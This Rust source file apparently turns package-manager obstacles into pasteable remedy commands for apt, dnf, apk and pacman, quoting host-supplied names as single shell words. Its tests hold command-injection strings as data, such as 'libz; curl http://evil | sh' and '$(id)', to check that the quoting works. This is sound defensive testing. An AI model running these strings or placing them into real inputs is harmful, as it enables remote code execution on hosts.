//! What to do about an obstacle, in the words of the host's own package system.
//!
//! Some of the words are a host's, or those of another one: each stands as one word of a shell, whatever it holds,
//! since people paste what they read here.

use std::borrow::Cow;

use super::peers::Help;
use crate::advice::commands::shell_word;
use crate::readiness::{Kind, Obstacle};
use crate::snapshot::Observation;
use crate::version::System;

/// One line: a command, or what a person has to do on the host itself.
pub(super) fn remedy(obstacle: &Obstacle, help: &Help, host: Option<&Observation>) -> String {
    let system = host.and_then(Observation::packages).map_or(System::Debian, |packages| packages.system);
    let subject = shell_word(obstacle.subject.as_str());
    match obstacle.kind {
        _ if obstacle.is_unexplained() => simulation(system, &subject),
        Kind::TargetUnavailable | Kind::DependencyMissing | Kind::DependencyTooOld => {
            lacking(obstacle, help, system)
        }
        Kind::Conflict => {
            format!("find out which of the two the host needs: {subject} cannot be beside the other")
        }
        Kind::WouldRemove => format!("find out who needs {subject} here before anything is upgraded"),
        Kind::WouldDowngrade => format!("find out where the newer {subject} came from"),
        Kind::Held => match system {
            System::Debian => format!("find out why, then: apt-mark unhold {subject}"),
            System::Rpm => format!("find out why, then: dnf versionlock delete {subject}"),
            System::Apk => format!("find out why, then: apk add {subject}"),
            System::Pacman => {
                format!("find out why, then take {subject} out of IgnorePkg in /etc/pacman.conf")
            }
        },
        Kind::BrokenState => match system {
            System::Debian => "dpkg --configure -a && apt-get --fix-broken install".to_owned(),
            System::Rpm => "dnf check".to_owned(),
            System::Apk => "apk fix".to_owned(),
            System::Pacman => "pacman -Dk".to_owned(),
        },
        Kind::Locked => "wait until it is done, and ask again".to_owned(),
        Kind::DiskSpace => format!("make room on {subject}, and ask again"),
        Kind::ConffilePrompt => {
            let kept = "bring the edit into configuration management";
            match system {
                System::Debian => format!("{kept}, or decide it: apt-get -o Dpkg::Options::=--force-confold"),
                System::Rpm | System::Apk | System::Pacman => kept.to_owned(),
            }
        }
        Kind::Unauthenticated => "have the source signed, and install its key".to_owned(),
        Kind::MetadataStale => refresh(system).to_owned(),
        Kind::RebootFirst => "drain the host and boot it first".to_owned(),
    }
}

/// What is done instead, where that would leave the cause in place. `target` is the package and what it shall come to.
pub(super) fn anew(target: &str) -> String {
    format!("build a new server from an image that has {target}, and let it take the place of the old one")
}

/// What brings what is lacking.
fn lacking(obstacle: &Obstacle, help: &Help, system: System) -> String {
    let needs = relation(obstacle.needs.as_deref().unwrap_or(&obstacle.subject));
    match help {
        Help::NoLists => refresh(system).to_owned(),
        Help::Passed { version } => {
            format!("find out why it is passed by, then: {}", install(system, &obstacle.subject, version))
        }
        Help::Wanted => format!("upgrade it first, or name it in an [[upgrade]] beside this one: {needs}"),
        Help::Source { here: Some(true), .. } => format!("{}, and look for pins", refresh(system)),
        Help::Source { name, .. } => format!("add the source {}, then: {}", words(name), refresh(system)),
        Help::Installed { version, .. } => {
            let subject = &obstacle.subject;
            format!("bring it here as it came to the others: {}", install(system, subject, version))
        }
        Help::None | Help::Unexplained { .. } => {
            format!("give the host a source that has {needs}, then: {}", refresh(system))
        }
    }
}

fn install(system: System, package: &str, version: &str) -> String {
    match system {
        System::Debian => format!("apt-get install {}", shell_word(format!("{package}={version}"))),
        System::Rpm => {
            let version = version.rsplit(':').next().unwrap_or(version);
            format!("dnf install {}", shell_word(format!("{package}-{version}")))
        }
        System::Apk => format!("apk add {}", shell_word(format!("{package}={version}"))),
        System::Pacman => format!("pacman -S {}", shell_word(package)),
    }
}

/// What tells on the host itself why it refuses.
fn simulation(system: System, package: &str) -> String {
    let command = match system {
        System::Debian => "apt-get -s install",
        System::Rpm => "dnf --assumeno install",
        System::Apk => "apk add -s",
        System::Pacman => "pacman -Sp",
    };
    format!("find out why on the host: {command} {package}, in the version that it shall come to")
}

/// What brings the lists of packages up to date.
fn refresh(system: System) -> &'static str {
    match system {
        System::Debian => "apt-get update",
        System::Rpm => "dnf makecache",
        System::Apk => "apk update",
        System::Pacman => "pacman -Syu",
    }
}

/// Words as they are where each of them is a plain one; otherwise one word of a shell.
fn words(text: &str) -> Cow<'_, str> {
    let plain = |word: &str| matches!(shell_word(word), Cow::Borrowed(_)) && !word.is_empty();
    if text.split(' ').all(plain) { Cow::Borrowed(text) } else { shell_word(text) }
}

/// A relation as it is written, `libssl3t64 (>= 3.3.0) | libfoo`, where it is nothing else; otherwise one word of a
/// shell. A name is followed by a sign and a version, and never by another word.
fn relation(text: &str) -> Cow<'_, str> {
    const SIGNS: [&str; 7] = ["<<", "<=", ">>", ">=", "<", ">", "="];
    let plain = |word: &str| {
        !word.is_empty()
            && word.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"+-._:~^@".contains(&byte))
    };
    let bound = |text: &str| {
        let sign = SIGNS.iter().find_map(|sign| text.strip_prefix(sign));
        sign.is_some_and(|version| plain(version.trim()))
    };
    let alternative = |text: &str| {
        let (name, rest) = text.trim().split_once(' ').unwrap_or((text.trim(), ""));
        let inside = rest.strip_prefix('(').and_then(|rest| rest.strip_suffix(')')).unwrap_or(rest);
        plain(name) && (rest.is_empty() || bound(inside))
    };
    if text.split(", and ").flat_map(|group| group.split(" | ")).all(alternative) {
        Cow::Borrowed(text)
    } else {
        shell_word(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_relation_is_shown_as_it_is_and_all_else_as_one_word() {
        for fine in [
            "libssl3t64 (>= 3.3.0)",
            "nginx",
            "libweb >= 3",
            "a | b (<< 2:1.0~rc1-1)",
            "openssl (>=3.0)",
            "a (>= 2), and a (<< 3)",
        ] {
            assert_eq!(relation(fine), fine);
        }
        for odd in
            ["libz; curl http://evil | sh", "curl evil | sh", "$(id)", "a (>= 1`id`)", "a (>= 1); id", ""]
        {
            assert_eq!(relation(odd), format!("'{odd}'"));
        }
    }

    #[test]
    fn no_word_of_a_host_is_a_command() {
        let evil = "libssl$(curl${IFS}evil|sh)";
        for kind in [Kind::Held, Kind::Conflict, Kind::DiskSpace, Kind::WouldRemove, Kind::DependencyMissing]
        {
            let told = remedy(&Obstacle::new(kind, evil), &Help::None, None);
            assert!(told.contains(&format!("'{evil}'")), "{told}");
        }
        let source = Help::Source { name: "x/`curl evil|sh`;".to_owned(), peers: 1, here: Some(false) };
        let missing =
            Obstacle { needs: Some("libz".to_owned()), ..Obstacle::new(Kind::DependencyMissing, "libz") };
        let told = remedy(&missing, &source, None);
        assert_eq!(told, "add the source 'x/`curl evil|sh`;', then: apt-get update");
        let passed = Help::Passed { version: "1;id".to_owned() };
        let told = remedy(&Obstacle::new(Kind::DependencyTooOld, "libz"), &passed, None);
        assert_eq!(told, "find out why it is passed by, then: apt-get install 'libz=1;id'");
    }
}
